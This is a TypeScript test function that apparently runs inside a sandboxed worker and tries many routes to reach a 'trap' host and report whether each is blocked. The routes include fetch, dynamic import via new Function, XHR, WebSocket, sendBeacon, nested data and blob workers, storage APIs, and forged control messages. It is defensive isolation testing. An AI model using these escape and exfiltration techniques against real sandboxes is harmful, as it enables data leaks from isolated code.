/**
 * Shipped into the cage as source: tries every way out and reports what became of each. Anything
 * but "blocked" is a hole.
 */
export async function hostileTask(targets: {
  readonly origin: string;
  readonly trap: string;
}): Promise<Record<string, string>> {
  const { origin, trap } = targets;
  const scope = globalThis as never as Record<string, never> & typeof globalThis;
  const results: Record<string, string> = {};
  const deadline = (ms: number) =>
    new Promise<string>((resolve) => setTimeout(resolve, ms, "blocked: no answer"));
  const attempt = async (name: string, way: () => unknown) => {
    try {
      const outcome = await Promise.race([way(), deadline(2_000)]);
      results[name] = String(outcome).startsWith("blocked") ? String(outcome) : `GOT ${outcome}`;
    } catch (error) {
      results[name] = `blocked: ${String(error).slice(0, 100)}`;
    }
  };
  const event = (target: EventTarget, good: string) =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve(good));
      target.addEventListener("error", () => reject(new Error("error event")));
    });
  const absent = (name: string) => () => (name in scope ? name : `blocked: no ${name}`);
  // Not written as `import()`: a bundler would take it for one of its own.
  // oxlint-disable-next-line typescript/no-implied-eval -- this is what hostile code does
  const dynamicImport = (url: string) => new Function("url", "return import(url)")(url) as unknown;
  const leak = `http://${trap}/leak`;

  for (const url of [leak, `${origin}leak`, `https://${trap}/leak`]) {
    await attempt(`fetch ${url}`, () => fetch(url));
    await attempt(`fetch no-cors ${url}`, () => fetch(url, { mode: "no-cors", keepalive: true }));
    await attempt(`import ${url}`, () => dynamicImport(url));
    await attempt(`XMLHttpRequest ${url}`, () => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.send();
      return event(request, "load");
    });
    await attempt(`synchronous XMLHttpRequest ${url}`, () => {
      const request = new XMLHttpRequest();
      request.open("GET", url, false);
      request.send();
      return request.status;
    });
    await attempt(`EventSource ${url}`, () => event(new EventSource(url), "open"));
    await attempt(`nested worker ${url}`, () => event(new Worker(url), "message"));
    await attempt(`importScripts ${url}`, () => scope["importScripts" as never] && importing(url));
  }
  function importing(url: string) {
    (scope as never as { importScripts(url: string): void }).importScripts(url);
    return "imported";
  }
  await attempt("import of a data module that imports", () =>
    dynamicImport(`data:text/javascript,import "${leak}"`),
  );
  await attempt("import of a blob module that imports", () =>
    dynamicImport(URL.createObjectURL(new Blob([`import "${leak}"`], { type: "text/javascript" }))),
  );
  await attempt("WebSocket", () => event(new WebSocket(`ws://${trap}/leak`), "open"));
  await attempt("WebSocketStream", () => {
    const Stream = scope["WebSocketStream"] as never as new (url: string) => { opened: unknown };
    return new Stream(`ws://${trap}/leak`).opened;
  });
  await attempt("WebTransport", () => new WebTransport(`https://${trap}/leak`).ready);
  await attempt("FontFace", () => {
    const Font = scope["FontFace"] as never as new (name: string, url: string) => FontFace;
    return new Font("leak", `url(${leak})`).load();
  });
  await attempt("sendBeacon", () => navigator.sendBeacon(leak));
  await attempt("indexedDB", () => event(indexedDB.open("leak"), "success"));
  await attempt("caches", () => caches.open("leak"));
  await attempt("OPFS", () => navigator.storage.getDirectory());
  await attempt("cookieStore", () =>
    (scope["cookieStore"] as never as { set(name: string, value: string): unknown }).set("a", "b"),
  );
  await attempt("serviceWorker", () => navigator.serviceWorker.register(leak));
  for (const name of ["RTCPeerConnection", "localStorage", "sessionStorage", "SharedWorker"]) {
    await attempt(name, absent(name));
  }
  for (const name of ["window", "parent", "top", "opener", "document", "frames"]) {
    await attempt(name, absent(name));
  }
  await attempt("SharedArrayBuffer", absent("SharedArrayBuffer"));

  // None of these can be seen to fail from here: the page and the trap say whether they did.
  new BroadcastChannel("leak").postMessage("leak");
  (scope as never as Worker).postMessage({ type: "crashed", executor: 0, reason: "forged" });
  (scope as never as Worker).postMessage({ type: "spawn", executor: 99 });

  const nested = `
    const names = [];
    const tries = [
      ["fetch", () => fetch("${leak}")],
      ["import", () => import("${leak}")],
      ["WebSocket", () => new Promise((ok, no) => { const s = new WebSocket("ws://${trap}/leak"); s.onopen = ok; s.onerror = no; })],
      ["indexedDB", () => new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = no; })],
      ["RTCPeerConnection", () => new RTCPeerConnection()],
    ];
    new BroadcastChannel("leak").postMessage("leak");
    for (const [name, way] of tries) { try { await way(); names.push(name); } catch {} }
    postMessage(names);`;
  const program = `data:text/javascript,${encodeURIComponent(nested)}`;
  await attempt("ways of a nested data worker", async () => {
    const worker = new Worker(program, { type: "module" });
    const names = await new Promise<string[]>((resolve, reject) => {
      worker.onmessage = ({ data }) => resolve(data as string[]);
      worker.onerror = () => reject(new Error("did not start"));
    });
    return names.length === 0 ? "blocked: every one" : names.join();
  });
  await attempt("nested blob worker", () => {
    const blob = new Blob([nested], { type: "text/javascript" });
    return event(new Worker(URL.createObjectURL(blob), { type: "module" }), "message");
  });
  return results;
}
